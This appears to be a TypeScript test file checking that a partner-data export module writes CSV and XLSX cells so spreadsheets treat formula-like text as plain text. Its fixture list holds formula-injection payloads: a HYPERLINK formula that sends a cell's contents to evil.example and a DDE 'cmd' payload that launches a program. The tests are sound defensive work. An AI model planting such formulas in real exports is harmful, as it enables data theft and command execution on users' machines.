import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { createImportReportWriter } from '../../modules/partners/import/import-report-writer';
import { unzipEntries } from '../../../../tests/factories/unzip';
import { toCsv } from './spreadsheet-text';
import { writeTableFile } from './write-table-file';

/** Text a spreadsheet would run as a formula: each leading character of the rule, and a real attack. */
const formulaLike = [
  '=SUM(A1:A9)',
  '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
  '+62 812-5123-4567',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
];
const plainText = ['Rumah Rajut Intan', 'Ibu Hj. Rusmini', 'a=b tetap teks'];

function parseCsv(bytes: Buffer): string[][] {
  const rows: string[][] = parse(bytes, { bom: true, relax_column_count: true });
  return rows;
}

async function readSheet(bytes: Buffer): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  return workbook.worksheets[0]!;
}

async function sheetXml(bytes: Buffer): Promise<string> {
  const entries = await unzipEntries(bytes);
  return entries.get('xl/worksheets/sheet1.xml')!.toString('utf8');
}

/** XML turns a raw carriage return into a line feed when read; the cell's text is otherwise intact. */
function asReadFromXml(value: string): string {
  return value.replace(/\r/g, '\n');
}

describe('spreadsheet formula neutralisation (promise 11)', () => {
  const input = {
    name: 'mitra-uji',
    sheetName: 'Mitra',
    columns: [{ header: 'Nama' }, { header: 'Nilai (Rp)', kind: 'rupiah' as const }],
    rows: [...formulaLike, ...plainText].map((text, index) => [text, -1_500_000 - index]),
  };

  it('writes CSV cells that start with = + - @ tab or CR behind an apostrophe, so they read back as text', async () => {
    const file = await writeTableFile('csv', input);
    const [header, ...rows] = parseCsv(file.bytes);
    expect(header).toEqual(['Nama', 'Nilai (Rp)']);
    expect(rows.map((row) => row[0])).toEqual([...formulaLike.map((text) => `'${text}`), ...plainText]);
    // toCsv, which other exports call directly, does the same.
    const direct = parseCsv(
      toCsv(
        ['Nama'],
        formulaLike.map((text) => [text]),
      ),
    );
    expect(direct.slice(1).map((row) => row[0])).toEqual(formulaLike.map((text) => `'${text}`));
  });

  it('writes XLSX cells as strings, never formulas, keeping the text (XML reads a CR back as a line feed)', async () => {
    const file = await writeTableFile('xlsx', input);
    expect(await sheetXml(file.bytes)).not.toMatch(/<f[\s>]/);
    const sheet = await readSheet(file.bytes);
    [...formulaLike, ...plainText].forEach((text, index) => {
      const cell = sheet.getRow(index + 2).getCell(1);
      expect(cell.type, JSON.stringify(text)).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeFalsy();
      expect(cell.value).toBe(asReadFromXml(text));
    });
  });

  it('keeps a negative number in a numeric column a number, and neutralises the same text in a text column', async () => {
    const typed = {
      name: 'angka',
      sheetName: 'Angka',
      columns: [
        { header: 'Selisih', kind: 'number' as const },
        { header: 'Anggaran', kind: 'rupiah' as const },
        { header: 'Catatan' },
      ],
      rows: [[-3, -1_500_000, '-3']],
    };
    const csvRows = parseCsv((await writeTableFile('csv', typed)).bytes);
    expect(csvRows[1]).toEqual(['-3', '-1500000', "'-3"]);

    const sheet = await readSheet((await writeTableFile('xlsx', typed)).bytes);
    const row = sheet.getRow(2);
    expect(row.getCell(1).type).toBe(ExcelJS.ValueType.Number);
    expect(row.getCell(1).value).toBe(-3);
    expect(row.getCell(2).type).toBe(ExcelJS.ValueType.Number);
    expect(row.getCell(2).value).toBe(-1_500_000);
    expect(row.getCell(2).numFmt).toBe('#,##0');
    expect(row.getCell(3).type).toBe(ExcelJS.ValueType.String);
    expect(row.getCell(3).value).toBe('-3');
  });

  it('writes the import report with names and reasons as text cells, never formulas', async () => {
    const writer = createImportReportWriter((id) => `http://jalin.test/mitra/${id}`);
    writer.add(
      formulaLike.map((name, index) => ({
        row: index + 2,
        name,
        status: 'rejected' as const,
        partnerId: null,
        issues: [{ code: 'CATEGORY_UNKNOWN' as const, value: name }],
      })),
    );
    const bytes = await writer.finish();
    expect(await sheetXml(bytes)).not.toMatch(/<f[\s>]/);
    const sheet = await readSheet(bytes);
    formulaLike.forEach((name, index) => {
      const row = sheet.getRow(index + 2);
      expect(row.getCell(1).value).toBe(index + 2);
      const nameCell = row.getCell(2);
      expect(nameCell.type, JSON.stringify(name)).toBe(ExcelJS.ValueType.String);
      expect(nameCell.formula).toBeFalsy();
      expect(nameCell.value).toBe(asReadFromXml(name));
      const reasonCell = row.getCell(4);
      expect(reasonCell.type).toBe(ExcelJS.ValueType.String);
      expect(reasonCell.text).toContain(asReadFromXml(name).trim());
    });
  });
});
